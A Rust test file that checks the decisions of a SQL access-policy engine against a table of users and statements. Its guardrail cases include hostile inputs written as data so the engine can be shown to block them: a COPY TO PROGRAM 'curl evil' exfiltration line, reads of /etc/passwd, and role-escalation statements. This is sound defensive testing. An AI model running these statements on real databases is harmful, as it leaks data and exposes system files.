//! Table-driven decisions: rules x identities x statements, through the real SQL analysis.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use support::{compile, decide_one, spec, summary};

const CASES: &[(&str, &str, &str)] = &[
    // Service account with table-scoped rules.
    ("api", "SELECT * FROM orders", "allow:api-rw"),
    ("api", "SELECT * FROM public.orders", "allow:api-rw"),
    (
        "api",
        "SELECT o.id FROM orders o JOIN customers c ON c.id = o.customer_id",
        "allow:api-customers-read",
    ),
    (
        "api",
        "UPDATE orders SET status = 'x' WHERE id = 1",
        "allow:api-rw",
    ),
    (
        "api",
        "UPDATE customers SET name = 'x' WHERE id = 1",
        "deny:default",
    ),
    ("api", "INSERT INTO orders (id) VALUES (1)", "allow:api-rw"),
    (
        "api",
        "INSERT INTO orders SELECT * FROM customers",
        "allow:api-rw",
    ),
    (
        "api",
        "INSERT INTO orders SELECT * FROM secrets",
        "deny:default",
    ),
    (
        "api",
        "INSERT INTO orders (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET id = 2",
        "allow:api-rw",
    ),
    ("api", "DELETE FROM orders", "guard:missing_where"),
    (
        "api",
        "DELETE FROM orders WHERE true",
        "guard:missing_where",
    ),
    (
        "api",
        "DELETE FROM orders WHERE id = 1",
        "approval:big-deletes",
    ),
    (
        "api",
        "DELETE FROM order_items WHERE id = 1",
        "allow:api-rw",
    ),
    (
        "api",
        "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d",
        "approval:big-deletes",
    ),
    (
        "api",
        "WITH d AS (DELETE FROM customers WHERE id = 1 RETURNING *) SELECT * FROM d",
        "deny:default",
    ),
    ("api", "SELECT * FROM orders FOR UPDATE", "allow:api-rw"),
    ("api", "SELECT * FROM customers FOR UPDATE", "deny:default"),
    ("api", "SELECT my_schema.do_things()", "deny:default"),
    ("api", "CALL refresh_all()", "deny:default"),
    ("api", "PREPARE q AS SELECT * FROM orders", "deny:default"),
    ("api", "EXECUTE q", "guard:unknown_prepared"),
    ("api", "LISTEN orders_changed", "deny:default"),
    ("api", "BEGIN", "allow:-"),
    ("api", "SET statement_timeout = '5s'", "allow:-"),
    ("api", "DISCARD ALL", "allow:-"),
    // A bare ServiceAccount name means the policy's namespace; a token replaces the account.
    ("api-elsewhere", "SELECT * FROM orders", "deny:default"),
    ("bob-via-api", "SELECT * FROM orders", "deny:default"),
    ("bob-via-api", "BEGIN", "deny:default"),
    // Groups, deny wins, unqualified names.
    (
        "alice",
        "SELECT * FROM public.invoices",
        "allow:analysts-read",
    ),
    ("alice", "SELECT * FROM invoices", "deny:default"),
    ("alice", "SELECT * FROM public.pii_users", "deny:no-pii"),
    ("alice", "SELECT * FROM pii_users", "deny:no-pii"),
    (
        "alice",
        "SELECT count(*) FROM public.invoices i WHERE i.id IN (SELECT invoice_id FROM public.pii_cards)",
        "deny:no-pii",
    ),
    (
        "alice",
        "UPDATE public.invoices SET total = 1 WHERE id = 1",
        "deny:default",
    ),
    (
        "alice",
        "EXPLAIN SELECT * FROM public.invoices",
        "allow:analysts-read",
    ),
    (
        "alice",
        "EXPLAIN ANALYZE DELETE FROM public.invoices WHERE id = 1",
        "deny:default",
    ),
    ("alice", "SELECT 1", "allow:analysts-read"),
    ("alice", "SHOW search_path", "allow:-"),
    ("alice", "CREATE ROLE intruder", "deny:default"),
    ("alice", "SET ROLE postgres", "guard:set_role"),
    ("ian", "SELECT * FROM public.orders", "allow:ian-read"),
    ("ian", "SELECT * FROM orders", "deny:default"),
    ("eve", "SELECT * FROM orders", "deny:eve-blocked"),
    ("eve", "BEGIN", "deny:eve-blocked"),
    ("nobody", "SELECT 1", "deny:default"),
    ("nobody", "COMMIT", "deny:default"),
    // Guardrails apply to everyone, before rules.
    ("dan", "CREATE TABLE t (id int)", "allow:dba-all"),
    ("dan", "DROP TABLE orders", "guard:drop"),
    ("dan", "TRUNCATE orders", "guard:truncate"),
    (
        "dan",
        "ALTER SYSTEM SET work_mem = '1GB'",
        "guard:alter_system",
    ),
    (
        "dan",
        "SET SESSION AUTHORIZATION postgres",
        "guard:set_role",
    ),
    ("dan", "RESET ROLE", "guard:set_role"),
    (
        "dan",
        "COPY orders TO PROGRAM 'curl evil'",
        "guard:copy_program",
    ),
    ("dan", "COPY orders FROM '/etc/passwd'", "guard:copy_file"),
    (
        "dan",
        "SELECT pg_terminate_backend(123)",
        "guard:blocked_function",
    ),
    (
        "dan",
        "SELECT pg_catalog.pg_read_file('/etc/passwd')",
        "guard:blocked_function",
    ),
    (
        "dan",
        "SELECT set_config('role', 'postgres', false)",
        "guard:blocked_function",
    ),
    (
        "dan",
        "UPDATE orders SET status = 'x'",
        "guard:missing_where",
    ),
    ("dan", "SELECT my_schema.do_things()", "allow:dba-all"),
    ("dan", "DO $$ BEGIN PERFORM 1; END $$", "allow:dba-all"),
    ("dan", "LISTEN orders_changed", "allow:dba-all"),
    (
        "dan",
        "PREPARE q AS DELETE FROM orders WHERE id = $1",
        "approval:big-deletes",
    ),
    ("dan", "VACUUM orders", "allow:dba-all"),
    // Cross-table statements need each part.
    (
        "archiver",
        "INSERT INTO archive SELECT * FROM orders",
        "allow:archiver-insert",
    ),
    (
        "archiver",
        "INSERT INTO archive SELECT * FROM customers",
        "deny:default",
    ),
    (
        "archiver",
        "INSERT INTO archive (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET id = 2",
        "deny:default",
    ),
    ("backup", "COPY orders TO STDOUT", "allow:backup"),
    (
        "backup",
        "COPY (SELECT * FROM customers) TO STDOUT",
        "allow:backup",
    ),
    ("backup", "DELETE FROM orders WHERE id = 1", "deny:default"),
];

#[test]
fn decisions_follow_the_table() {
    let policy = compile(&spec());
    let mut failures = Vec::new();
    for (who, sql, expected) in CASES {
        let got = summary(&decide_one(&policy, who, sql));
        if got != *expected {
            failures.push(format!("{who}: {sql}\n    expected {expected}, got {got}"));
        }
    }
    assert!(CASES.len() >= 40);
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}
